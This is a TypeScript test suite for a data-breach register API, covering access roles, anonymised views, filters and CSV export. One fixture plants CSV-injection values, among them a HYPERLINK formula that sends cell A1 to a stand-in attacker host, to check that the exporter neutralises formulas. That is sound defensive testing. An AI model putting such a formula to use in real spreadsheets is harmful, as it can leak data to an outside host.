import { ANONYMISED_COLUMNS, FULL_COLUMNS } from '#libs/register';
import { aReport, personId, startApi, TestApi, REPORT_FACTS } from '../support/api';
import { csvObjects } from './parse-csv';

/** Placed in every free-text field: the anonymised register must never contain it. */
const MARK = 'QZX-MARKER-4f1e';
const text = (label: string) => `${label} ${MARK}`;
const minutesAgo = (m: number) => new Date(Date.now() - m * 60_000).toISOString();
const inDays = (d: number) => new Date(Date.now() + d * 86_400_000).toISOString();

const facts = REPORT_FACTS;

type Client = Awaited<ReturnType<TestApi['as']>>;
type Row = Record<string, unknown>;

/** How the exporter should write a JSON value in a CSV cell, restated independently. */
function asCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  const s = Array.isArray(value) ? value.join('; ') : String(value);
  return typeof value !== 'number' && /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}

describe('the breach register (Art. 33(5))', () => {
  let api: TestApi;
  let dpo: Client;
  let since: string;
  const ref: Record<'notReported' | 'notBreach' | 'onTime' | 'late' | 'formula', { id: string; reference: string }> =
    {} as never;

  async function report(overrides: Record<string, unknown>) {
    const res = await (await api.as('chris')).post('/api/v1/incidents', aReport(overrides)).expect(201);
    return res.body as { id: string; reference: string };
  }

  /** Acknowledged, awareness confirmed, contained, assessed and decided, every text marked. */
  async function decide(id: string, notifyIco: boolean, awareAt = minutesAgo(90)) {
    await dpo.post(`/api/v1/incidents/${id}/acknowledge`).expect(200);
    await dpo
      .post(`/api/v1/incidents/${id}/awareness`, { awareAt, justification: text('Awareness justification') })
      .expect(200);
    await dpo
      .post(`/api/v1/incidents/${id}/containment`, { actions: text('Recall'), findings: text('Autocomplete') })
      .expect(200);
    const view = { riskLevel: 'risk', likelihood: 'possible', severity: 'significant', rationale: text('Rationale') };
    await dpo.post(`/api/v1/incidents/${id}/assessments`, { facts, assessorView: view }).expect(200);
    await dpo
      .post(`/api/v1/incidents/${id}/decision`, {
        notifyIco,
        icoReasons: text('ICO reasons'),
        notifySubjects: false,
        subjectsExemption: null,
        subjectsReasons: text('Subjects reasons'),
        justification: text('Justification'),
      })
      .expect(200);
  }

  const markedReport = (overrides: Record<string, unknown> = {}) => ({
    summary: text('Summary'),
    howDiscovered: text('How discovered'),
    containmentSoFar: text('Contained'),
    ...overrides,
  });

  const register = async (who: Parameters<TestApi['as']>[0], query: string, status = 200) =>
    (await api.as(who)).get(`/api/v1/register?${query}`).expect(status);
  const ours = (rows: Row[]) => {
    const refs = new Set(Object.values(ref).map((r) => r.reference));
    return rows.filter((r) => refs.has(r.reference as string));
  };
  const rowOf = (rows: Row[], key: keyof typeof ref) => rows.find((r) => r.reference === ref[key].reference)!;

  beforeAll(async () => {
    api = await startApi();
    dpo = await api.as('dpo');
    since = new Date(Date.now() - 1000).toISOString();

    ref.notReported = await report(markedReport());
    await (
      await api.as('chris')
    )
      .post(`/api/v1/incidents/${ref.notReported.id}/information`, { note: text('Note') })
      .expect(200);
    await decide(ref.notReported.id, false);
    await dpo
      .post(`/api/v1/incidents/${ref.notReported.id}/lessons`, {
        rootCause: 'misdirected-email-or-post',
        narrative: text('Narrative'),
        changes: text('Changes'),
        actions: [{ description: text('Action'), ownerId: personId('governance'), dueAt: inDays(14) }],
      })
      .expect(200);

    ref.notBreach = await report(markedReport());
    await dpo
      .post(`/api/v1/incidents/${ref.notBreach.id}/close-as-not-breach`, { reason: text('Not a breach') })
      .expect(200);

    ref.onTime = await report(markedReport({ entityId: 'SSHA' }));
    await decide(ref.onTime.id, true);
    await dpo
      .post(`/api/v1/incidents/${ref.onTime.id}/ico-submissions`, {
        submittedAt: minutesAgo(30),
        icoReference: text('IC'),
        phased: false,
      })
      .expect(200);

    // Aware four days ago: the submission now is after the 72 hours and must say why.
    ref.late = await report(markedReport({ discoveredAt: minutesAgo(5 * 24 * 60), occurredAt: null }));
    await decide(ref.late.id, true, minutesAgo(4 * 24 * 60));
    const late = { submittedAt: minutesAgo(1), icoReference: 'IC-000002-TEST', phased: true };
    const refused = await dpo.post(`/api/v1/incidents/${ref.late.id}/ico-submissions`, late).expect(422);
    expect(refused.body.code).toBe('delay_reasons_required');
    await dpo
      .post(`/api/v1/incidents/${ref.late.id}/ico-submissions`, { ...late, delayReasons: text('Delay reasons') })
      .expect(200);

    ref.formula = await report(
      markedReport({
        summary: `=HYPERLINK("http://evil.example/?"&A1,"Open") ${MARK}`,
        howDiscovered: `+SUM(1,2) ${MARK}`,
        containmentSoFar: `-1+2, "quoted", with a comma\r\nand a second line ${MARK}`,
      }),
    );
  }, 60_000);
  afterAll(() => api?.close());

  it('lists every incident for the DPO with its facts, decisions, reasons and the 72-hour test', async () => {
    const res = await register('dpo', `from=${since}`);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['cache-control']).toBe('no-store');
    const rows = ours(res.body.rows as Row[]);
    expect(rows).toHaveLength(5);
    expect(res.body).toMatchObject({ view: 'full', period: { from: since, to: null, entityId: null } });
    expect(res.body.count).toBe(res.body.rows.length);

    expect(rowOf(rows, 'notReported')).toMatchObject({
      outcome: 'not-reported',
      status: 'decided',
      decisionNotifyIco: false,
      icoWithin72h: null,
      rootCause: 'misdirected-email-or-post',
      lessonActions: 1,
      lessonActionsOpen: 1,
      lessonActionsOverdue: 0,
      summary: text('Summary'),
      effects: text('Autocomplete'),
      remedialAction: `${text('Contained')}\n${text('Recall')}`,
      icoReasons: text('ICO reasons'),
      subjectsReasons: text('Subjects reasons'),
      decisionJustification: text('Justification'),
      assessorRationale: text('Rationale'),
      lessonsNarrative: text('Narrative'),
      decidedBy: personId('dpo'),
    });
    expect(rowOf(rows, 'notBreach')).toMatchObject({
      outcome: 'not-a-breach',
      status: 'closed-not-breach',
      notBreachReason: text('Not a breach'),
      decidedAt: null,
    });
    expect(rowOf(rows, 'onTime')).toMatchObject({
      outcome: 'reported',
      entityId: 'SSHA',
      icoWithin72h: true,
      delayReasonsGiven: false,
      delayReasons: null,
    });
    const late = rowOf(rows, 'late');
    expect(late).toMatchObject({ outcome: 'reported', icoWithin72h: false, delayReasonsGiven: true });
    expect(late.delayReasons).toBe(text('Delay reasons'));
    expect(late.hoursAwareToIco).toBeGreaterThan(72);
    expect(rowOf(rows, 'formula')).toMatchObject({ outcome: 'undecided', status: 'reported' });
  });

  it('gives EMT and audit the same entries with no free text and no people', async () => {
    const full = ours((await register('dpo', `from=${since}`)).body.rows as Row[]);
    for (const who of ['emt', 'auditor'] as const) {
      const res = await register(who, `from=${since}&format=json`);
      expect(res.text).not.toContain(MARK);
      expect(res.text).not.toContain(personId('chris'));
      expect(res.text).not.toContain(personId('dpo'));
      expect(res.body.view).toBe('anonymised');
      const rows = ours(res.body.rows as Row[]);
      expect(rows).toHaveLength(5);
      expect(rows.map((r) => Object.keys(r))).toEqual(rows.map(() => [...ANONYMISED_COLUMNS]));
      for (const row of rows) {
        const whole = full.find((r) => r.reference === row.reference)!;
        expect(row).toEqual(Object.fromEntries(ANONYMISED_COLUMNS.map((c) => [c, whole[c]])));
      }
      expect(rowOf(rows, 'late')).toMatchObject({ icoWithin72h: false, delayReasonsGiven: true });
    }
  });

  it('exports RFC 4180 CSV that parses back, with formulas neutralised', async () => {
    const json = ours((await register('dpo', `from=${since}`)).body.rows as Row[]);
    expect(json).toHaveLength(5);
    const res = await register('dpo', `from=${since}&format=csv`);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="breach-register-full-.*\.csv"$/);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"") ${MARK}"`);
    const { header, rows } = csvObjects(res.text);
    expect(header).toEqual([...FULL_COLUMNS]);
    for (const row of json) {
      const parsed = rows.find((r) => r.reference === row.reference)!;
      expect(parsed).toEqual(Object.fromEntries(FULL_COLUMNS.map((c) => [c, asCell(row[c])])));
    }
    const formula = rows.find((r) => r.reference === ref.formula.reference)!;
    expect(formula.summary).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open") ${MARK}`);
    expect(formula.howDiscovered).toBe(`'+SUM(1,2) ${MARK}`);
    expect(formula.remedialAction).toBe(`'-1+2, "quoted", with a comma\r\nand a second line ${MARK}`);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports CSV for EMT and audit with only the anonymised columns and no marker', async () => {
    for (const who of ['emt', 'auditor'] as const) {
      const res = await register(who, `from=${since}&format=csv`);
      expect(res.text).not.toContain(MARK);
      const { header, rows } = csvObjects(res.text);
      expect(header).toEqual([...ANONYMISED_COLUMNS]);
      expect(rows.filter((r) => Object.values(ref).some((x) => x.reference === r.reference))).toHaveLength(5);
    }
  });

  it('filters by period and by group entity', async () => {
    const entity = await register('auditor', `from=${since}&entity=SSHA`);
    expect(entity.body.rows.map((r: Row) => r.reference)).toEqual([ref.onTime.reference]);
    const before = await register('auditor', `to=${since}`);
    expect(ours(before.body.rows)).toEqual([]);
    const lateOnly = await register('auditor', `from=${since}&to=${encodeURIComponent(minutesAgo(-1))}`);
    expect(ours(lateOnly.body.rows)).toHaveLength(5);
    const future = await register('auditor', `from=${encodeURIComponent(inDays(1))}`);
    expect(future.body).toMatchObject({ rows: [], count: 0 });
    const empty = await register('auditor', `from=${encodeURIComponent(inDays(1))}&format=csv`);
    expect(empty.text).toBe(`${ANONYMISED_COLUMNS.map((c) => `"${c}"`).join(',')}\r\n`);
  });

  it('records that the DPO read every incident in a full export', async () => {
    await register('governance', `from=${since}&entity=SSHA`);
    const timeline = await dpo.get(`/api/v1/incidents/${ref.onTime.id}/timeline`).expect(200);
    const reads = timeline.body.reads as { actorId: string; action: string }[];
    expect(reads).toContainEqual(
      expect.objectContaining({ actorId: personId('governance'), action: 'register-export' }),
    );
  });

  it('refuses roles other than the DPO, governance, EMT and audit', async () => {
    for (const who of ['admin', 'chris', 'partner'] as const) {
      const res = await register(who, 'format=json', 403);
      expect(res.body).toEqual({ code: 'forbidden', message: expect.any(String) });
    }
  });

  it.each([
    ['from=yesterday', 'validation_failed'],
    ['from=2026-01-01T00:00:00', 'validation_failed'],
    ['to=2026-02-30T00:00:00Z', 'validation_failed'],
    ['format=xml', 'validation_failed'],
    [`entity=${'X'.repeat(21)}`, 'validation_failed'],
    ['entity=HHL&entity=SSHA', 'validation_failed'],
    ['page=2', 'validation_failed'],
    ['from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z', 'invalid_period'],
  ])('refuses %s with 400', async (query, code) => {
    const res = await register('dpo', query, 400);
    expect(res.body).toMatchObject({ code, message: expect.any(String) });
    const trends = await (await api.as('emt')).get(`/api/v1/trends?${query.replace('format=xml', 'format=csv')}`);
    expect(trends.status).toBe(400);
  });
});
